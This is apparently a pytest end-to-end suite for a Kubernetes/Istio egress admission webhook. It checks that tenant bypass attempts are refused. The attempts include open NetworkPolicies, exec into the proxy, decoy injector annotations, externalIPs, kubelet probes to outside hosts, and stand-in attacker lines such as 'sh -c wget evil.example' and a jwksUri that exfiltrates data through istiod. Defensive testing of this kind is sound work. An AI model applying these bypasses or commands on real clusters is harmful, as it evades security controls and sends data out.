"""Kubernetes-level ways around the guardrail, tried through kubectl on the real control plane.

The webhook here is registered with the rules ``webhook.admission.registration`` derives (the
harness' own list is wired to it at merge), so NetworkPolicies, ProxyConfigs, Telemetry and
CONNECT on ``pods/exec``/``pods/attach`` reach it.  Tenant identities are impersonated with
just enough RBAC for the API server to hand their request to admission.  Pods get their proxy
from Istio's own injector, registered as istiod registers it (egress-guard labels every new
namespace ``istio-injection=enabled``); a Pod left without one names a revision no injector
serves.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest

from tests.e2e.harness import Injector, Kubectl, Webhook
from tests.e2e.scenarios import (
    Outcome,
    apply,
    assert_admitted,
    assert_denied,
    ensure_namespace,
    remove,
    run,
    wait_for,
)
from tests.manifests import PAUSE, pod, static_service_entry

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(300)]

TENANT = "e2e-tenant"
EGRESS_NAMESPACE = "external"  # the banzai-demo policy's


@pytest.fixture(scope="module")
def derived(webhook: Webhook | None, injector: Injector | None, kubectl: Kubectl) -> Kubectl:
    """The session webhook, which the harness registers with the derived rules, and Istio's
    injector."""
    if webhook is None or webhook.ca is None or injector is None:
        pytest.skip("existing cluster: its registration is the chart's")
    return kubectl


@pytest.fixture(scope="module")
def tenant_rbac(derived: Kubectl) -> str:
    """A ClusterRole letting the tenant write what these tests try (RBAC is not what is tested)."""
    derived.apply(
        [
            {
                "apiVersion": "rbac.authorization.k8s.io/v1",
                "kind": "ClusterRole",
                "metadata": {"name": TENANT},
                "rules": [
                    {
                        "apiGroups": [
                            "",
                            "apps",
                            "networking.k8s.io",
                            "networking.istio.io",
                            "security.istio.io",
                            "telemetry.istio.io",
                        ],
                        "resources": ["*"],
                        "verbs": ["*"],
                    }
                ],
            }
        ]
    )
    return TENANT


def as_tenant(kubectl: Kubectl, namespace: str, role: str) -> Callable[..., Outcome]:
    """``run`` as an impersonated tenant holding ``role`` in ``namespace``."""
    derived_binding = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "RoleBinding",
        "metadata": {"name": TENANT, "namespace": namespace},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": TENANT}],
    }
    kubectl.apply([derived_binding])

    def tenant(*args: str, input: str | None = None) -> Outcome:
        return run(kubectl, *args, f"--as={TENANT}", input=input)

    return tenant


def default_sidecar(namespace: str) -> dict[str, Any]:
    """A namespace-wide REGISTRY_ONLY Sidecar, as the controller would create it."""
    return {
        "apiVersion": "networking.istio.io/v1",
        "kind": "Sidecar",
        "metadata": {"name": "default", "namespace": namespace},
        "spec": {
            "egress": [{"hosts": ["./*", "istio-system/*"]}],
            "outboundTrafficPolicy": {"mode": "REGISTRY_ONLY"},
        },
    }


def create(kubectl: Kubectl, manifest: dict[str, Any]) -> Outcome:
    return run(kubectl, "create", "-f", "-", input=json.dumps(manifest))


@pytest.fixture
def ready_namespace(derived: Kubectl, new_namespace: Callable[..., str]) -> str:
    """An enforced namespace whose default-deny Sidecar exists."""
    namespace = new_namespace("e2e-bypass")
    assert_admitted(create(derived, default_sidecar(namespace)))
    return namespace


# --- NetworkPolicies ----------------------------------------------------------------------


def netpol(namespace: str, egress: list[dict[str, Any]]) -> dict[str, Any]:
    return {
        "apiVersion": "networking.k8s.io/v1",
        "kind": "NetworkPolicy",
        "metadata": {"name": "tenant", "namespace": namespace},
        "spec": {"podSelector": {}, "policyTypes": ["Egress"], "egress": egress},
    }


def test_tenant_network_policy_opening_all_egress_is_refused(
    derived: Kubectl, namespace: str
) -> None:
    assert_denied(apply(derived, netpol(namespace, [{}])), "every destination")


def test_tenant_network_policy_to_an_outside_range_is_refused(
    derived: Kubectl, namespace: str
) -> None:
    egress = [{"to": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]}]
    assert_denied(apply(derived, netpol(namespace, egress)), "ipBlock.cidr")


def test_tenant_network_policy_to_dns_and_pods_is_admitted(
    derived: Kubectl, namespace: str
) -> None:
    dns = {
        "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "kube-system"}},
        "podSelector": {"matchLabels": {"k8s-app": "kube-dns"}},
    }
    egress = [
        {"to": [dns], "ports": [{"protocol": "UDP", "port": 53}]},
        {"to": [{"podSelector": {}}]},
    ]
    assert_admitted(apply(derived, netpol(namespace, egress)))


# --- exec and attach into the proxy -------------------------------------------------------


def test_exec_into_the_proxy_is_refused(derived: Kubectl, ready_namespace: str) -> None:
    assert_admitted(create(derived, pod(ready_namespace)))
    outcome = run(derived, "exec", "app", "-n", ready_namespace, "-c", "istio-proxy", "--", "sh")
    assert_denied(outcome, "istio-proxy", "1337")


def test_attach_to_the_proxy_is_refused(derived: Kubectl, ready_namespace: str) -> None:
    assert_admitted(create(derived, pod(ready_namespace)))
    outcome = run(derived, "attach", "app", "-n", ready_namespace, "-c", "istio-proxy")
    assert_denied(outcome, "istio-proxy")


def test_exec_into_the_application_passes_admission(derived: Kubectl, ready_namespace: str) -> None:
    assert_admitted(create(derived, pod(ready_namespace)))
    outcome = run(derived, "exec", "app", "-n", ready_namespace, "-c", "app", "--", "true")
    # no kubelet runs the pod, so the exec fails after admission, never at it
    assert "denied the request" not in outcome.errors, outcome.errors


# --- Pod invariants -----------------------------------------------------------------------


def test_pod_without_the_injected_proxy_is_refused(
    derived: Kubectl, new_namespace: Callable[..., str]
) -> None:
    # a revision no injector serves: the Pod reaches validation as the user wrote it
    namespace = new_namespace("e2e-bypass", labels={"istio.io/rev": "canary"})
    assert_admitted(create(derived, default_sidecar(namespace)))
    assert_denied(create(derived, pod(namespace)), "injector did not run")


def test_pod_with_a_decoy_injector_status_is_refused_before_injection(
    derived: Kubectl, ready_namespace: str
) -> None:
    # Istio's injector would take the Pod for injected, merge its istio-proxy (a command of
    # the author's choosing) over the real one and write a status naming it: the mutating
    # webhook, called before the injector, refuses it as written
    manifest = pod(ready_namespace, "decoy")
    manifest["metadata"]["annotations"] = {
        "sidecar.istio.io/status": json.dumps({"containers": ["decoy"], "initContainers": None})
    }
    manifest["spec"]["containers"].append(
        {"name": "istio-proxy", "image": PAUSE, "command": ["/pause"]}
    )
    assert_denied(create(derived, manifest), "before injection", "sidecar.istio.io/status")


def test_injected_pod_is_admitted(derived: Kubectl, ready_namespace: str) -> None:
    assert_admitted(create(derived, pod(ready_namespace)))


def test_pod_before_the_default_deny_sidecar_is_refused_then_admitted(
    derived: Kubectl, namespace: str
) -> None:
    assert_denied(create(derived, pod(namespace)), "no default-deny Sidecar yet", "retry")
    assert_admitted(create(derived, default_sidecar(namespace)))
    # the webhook's Sidecar watch sees it within moments; a controller's retry then succeeds
    waited = wait_for(
        lambda: create(derived, pod(namespace)).admitted, 10.0, "the Pod to be admitted"
    )
    print(f"admitted {waited:.2f}s after the Sidecar was created")


# --- the egress namespace -----------------------------------------------------------------


def egress_object(api_version: str, kind: str, spec: dict[str, Any]) -> dict[str, Any]:
    return {
        "apiVersion": api_version,
        "kind": kind,
        "metadata": {"name": "tenant", "namespace": EGRESS_NAMESPACE},
        "spec": spec,
    }


@pytest.mark.parametrize(
    "manifest",
    [
        egress_object("security.istio.io/v1", "AuthorizationPolicy", {"action": "ALLOW"}),
        egress_object(
            "telemetry.istio.io/v1", "Telemetry", {"accessLogging": [{"disabled": True}]}
        ),
        egress_object("networking.istio.io/v1beta1", "ProxyConfig", {"concurrency": 1}),
    ],
    ids=["authorizationpolicy", "telemetry", "proxyconfig"],
)
def test_tenant_objects_in_the_egress_namespace_are_refused(
    derived: Kubectl, tenant_rbac: str, manifest: dict[str, Any]
) -> None:
    ensure_namespace(derived, EGRESS_NAMESPACE)
    tenant = as_tenant(derived, EGRESS_NAMESPACE, tenant_rbac)
    outcome = tenant("create", "--dry-run=server", "-f", "-", input=json.dumps(manifest))
    assert_denied(outcome, "holds the egress gateways")


# --- names and addresses ------------------------------------------------------------------


def test_service_external_ips_are_refused(derived: Kubectl, namespace: str) -> None:
    service = {
        "apiVersion": "v1",
        "kind": "Service",
        "metadata": {"name": "mitm", "namespace": namespace},
        "spec": {"ports": [{"port": 443}], "externalIPs": ["203.0.113.10"]},
    }
    assert_denied(create(derived, service), "CVE-2020-8554")


def test_service_entry_at_an_address_of_the_egress_namespace_is_refused(
    derived: Kubectl, namespace: str
) -> None:
    """The webhook watches the egress namespace's Pods and Services: the cluster IP the API
    server gives a new Service there is refused, within moments, as a tenant's endpoint (it
    would reach the egress gateway past the routes that guard it)."""
    ensure_namespace(derived, EGRESS_NAMESPACE)
    gateway = {
        "apiVersion": "v1",
        "kind": "Service",
        "metadata": {"name": "e2e-gateway-address", "namespace": EGRESS_NAMESPACE},
        "spec": {"selector": {"app": "e2e-gateway-address"}, "ports": [{"port": 443}]},
    }
    assert_admitted(apply(derived, gateway))
    try:
        cluster_ip = derived(
            "get",
            "service",
            "-n",
            EGRESS_NAMESPACE,
            "e2e-gateway-address",
            "-o",
            "jsonpath={.spec.clusterIP}",
        ).stdout.strip()
        assert cluster_ip, "the API server gave the Service no cluster IP"
        entry = static_service_entry("gateway-alias", namespace, cluster_ip)
        alias = "an address of an egress gateway's namespace"
        outcomes: list[Outcome] = []

        def refused_as_alias() -> bool:
            outcome = run(derived, "create", "--dry-run=server", "-f", "-", input=json.dumps(entry))
            outcomes.append(outcome)
            return alias in outcome.errors

        waited = wait_for(refused_as_alias, 10.0, "the webhook to see the Service's address")
        print(f"refused {waited:.2f}s after the Service was created")
        assert_denied(outcomes[-1], cluster_ip, alias)
    finally:
        remove(derived, gateway)


def test_service_entry_for_a_pod_dns_name_is_refused(derived: Kubectl, namespace: str) -> None:
    entry = {
        "apiVersion": "networking.istio.io/v1",
        "kind": "ServiceEntry",
        "metadata": {"name": "pod-dns", "namespace": namespace},
        "spec": {
            "hosts": ["93-184-216-34.default.pod.cluster.local"],
            "ports": [{"number": 443, "name": "tls", "protocol": "TLS"}],
            "resolution": "DNS",
            "exportTo": ["."],
        },
    }
    assert_denied(create(derived, entry))


def test_proxy_config_changing_the_agent_is_refused(derived: Kubectl, namespace: str) -> None:
    config = {
        "apiVersion": "networking.istio.io/v1beta1",
        "kind": "ProxyConfig",
        "metadata": {"name": "agent", "namespace": namespace},
        "spec": {"environmentVariables": {"ISTIO_META_DNS_CAPTURE": "false"}},
    }
    assert_denied(create(derived, config), "spec.environmentVariables")


# --- legitimate objects that used to be refused ---------------------------------------------


def test_classic_ingress_gateway_is_admitted(derived: Kubectl, namespace: str) -> None:
    # the policy names the egress gateways' istio label, which istio: ingressgateway contradicts
    gateway = {
        "apiVersion": "networking.istio.io/v1",
        "kind": "Gateway",
        "metadata": {"name": "bookinfo-gateway", "namespace": namespace},
        "spec": {
            "selector": {"istio": "ingressgateway"},
            "servers": [
                {"port": {"number": 8080, "name": "http", "protocol": "HTTP"}, "hosts": ["*"]}
            ],
        },
    }
    assert_admitted(create(derived, gateway))


def test_gateway_api_gateway_of_class_istio_is_admitted(derived: Kubectl, namespace: str) -> None:
    if derived("get", "crd", "gateways.gateway.networking.k8s.io").returncode != 0:
        pytest.skip("no Gateway API CRDs in this cluster")
    gateway = {
        "apiVersion": "gateway.networking.k8s.io/v1",
        "kind": "Gateway",
        "metadata": {"name": "web", "namespace": namespace},
        "spec": {
            "gatewayClassName": "istio",
            "listeners": [{"name": "http", "port": 80, "protocol": "HTTP"}],
        },
    }
    assert_admitted(create(derived, gateway))


REPLICASET_CONTROLLER = "system:serviceaccount:kube-system:replicaset-controller"


def istiod_gateway_pod(namespace: str, **container: Any) -> dict[str, Any]:
    """A Pod of istiod's Deployment for Gateway ``web`` as its kube-gateway template renders
    it: injection off, the proxy written out with "proxy router" arguments."""
    manifest = pod(
        namespace,
        "web-istio-7c9-abcde",
        labels={
            "sidecar.istio.io/inject": "false",
            "gateway.networking.k8s.io/gateway-name": "web",
            "gateway.networking.k8s.io/gateway-class-name": "istio",
            "gateway.istio.io/managed": "istio.io-gateway-controller",
        },
    )
    manifest["spec"]["containers"] = [
        {
            "name": "istio-proxy",
            "image": PAUSE,
            "args": ["proxy", "router", "--domain", f"{namespace}.svc.cluster.local"],
            "securityContext": {"runAsUser": 1337, "runAsGroup": 1337, "runAsNonRoot": True},
            **container,
        }
    ]
    return manifest


def test_istiods_gateway_pod_is_admitted_and_only_as_rendered(
    derived: Kubectl, ready_namespace: str
) -> None:
    # created by the ReplicaSet controller from istiod's Deployment: Istio's injector skips
    # it (injection off), and no injector status is asked of it
    as_controller = f"--as={REPLICASET_CONTROLLER}"
    gateway_pod = json.dumps(istiod_gateway_pod(ready_namespace))
    assert_admitted(run(derived, "create", "-f", "-", as_controller, input=gateway_pod))
    # the same proxy with another entrypoint is not istiod's, whoever writes it
    rewritten = istiod_gateway_pod(ready_namespace, command=["sh", "-c", "wget evil.example"])
    rewritten["metadata"]["name"] = "web-istio-7c9-fghij"
    outcome = run(derived, "create", "-f", "-", as_controller, input=json.dumps(rewritten))
    assert_denied(outcome, "entrypoint of the gateway proxy")


@pytest.mark.parametrize(
    ("metadata", "infrastructure", "needle"),
    [
        ({"annotations": {"sidecar.istio.io/proxyImage": "evil.example/shell:1"}}, {}, "image"),
        ({}, {"parametersRef": {"group": "", "kind": "ConfigMap", "name": "web"}}, "ConfigMap"),
        ({}, {"labels": {"gateway-name": "egress-google", "gateway-type": "egress"}}, "selector"),
    ],
)
def test_gateway_api_gateway_rewriting_its_proxy_is_refused(
    derived: Kubectl,
    namespace: str,
    metadata: dict[str, Any],
    infrastructure: dict[str, Any],
    needle: str,
) -> None:
    if derived("get", "crd", "gateways.gateway.networking.k8s.io").returncode != 0:
        pytest.skip("no Gateway API CRDs in this cluster")
    spec: dict[str, Any] = {
        "gatewayClassName": "istio",
        "listeners": [{"name": "http", "port": 80, "protocol": "HTTP"}],
    }
    if infrastructure:
        spec["infrastructure"] = infrastructure
    gateway = {
        "apiVersion": "gateway.networking.k8s.io/v1",
        "kind": "Gateway",
        "metadata": {"name": "web", "namespace": namespace, **metadata},
        "spec": spec,
    }
    assert_denied(create(derived, gateway), needle)


@pytest.mark.parametrize(
    ("change", "needle"),
    [
        (
            {"readinessProbe": {"httpGet": {"host": "203.0.113.7", "port": 80, "path": "/x"}}},
            "kubelet",
        ),
        ({"volume": {"name": "out", "nfs": {"server": "203.0.113.7", "path": "/"}}}, "node"),
    ],
)
def test_pod_making_the_node_a_client_is_refused(
    derived: Kubectl, ready_namespace: str, change: dict[str, Any], needle: str
) -> None:
    # the kubelet probes, and mounts volumes, from the node: outside the mesh and its policies
    manifest = pod(ready_namespace, "node-client")
    spec = manifest["spec"]
    change = dict(change)
    volume = change.pop("volume", None)
    if volume is not None:
        spec["volumes"] = [volume]
        spec["containers"][0]["volumeMounts"] = [{"name": "out", "mountPath": "/out"}]
    spec["containers"][0].update(change)
    assert_denied(create(derived, manifest), needle)


def request_authentication(namespace: str, rule: dict[str, Any]) -> dict[str, Any]:
    return {
        "apiVersion": "security.istio.io/v1",
        "kind": "RequestAuthentication",
        "metadata": {"name": "jwt", "namespace": namespace},
        "spec": {"jwtRules": [rule]},
    }


def test_request_authentication_fetching_from_any_host_is_refused(
    derived: Kubectl, namespace: str
) -> None:
    # istiod would fetch the URL, with what the tenant wrote into it, past the egress gateway
    exfiltrating = {"issuer": "x", "jwksUri": "https://evil.example/k?d=c2VjcmV0"}
    assert_denied(create(derived, request_authentication(namespace, exfiltrating)), "istiod")
    inline = {"issuer": "https://evil.example", "jwks": '{"keys": []}'}
    assert_admitted(create(derived, request_authentication(namespace, inline)))


def test_public_name_on_ingress_and_mesh_routed_in_cluster_is_admitted(
    derived: Kubectl, namespace: str
) -> None:
    service = {
        "apiVersion": "networking.istio.io/v1",
        "kind": "VirtualService",
        "metadata": {"name": "bookinfo", "namespace": namespace},
        "spec": {
            "hosts": ["bookinfo.example.com"],
            "gateways": ["bookinfo-gateway", "mesh"],
            "exportTo": ["."],
            "http": [
                {"match": [{"uri": {"prefix": "/old"}}], "redirect": {"authority": "example.org"}},
                {"route": [{"destination": {"host": "productpage", "port": {"number": 9080}}}]},
            ],
        },
    }
    assert_admitted(create(derived, service))
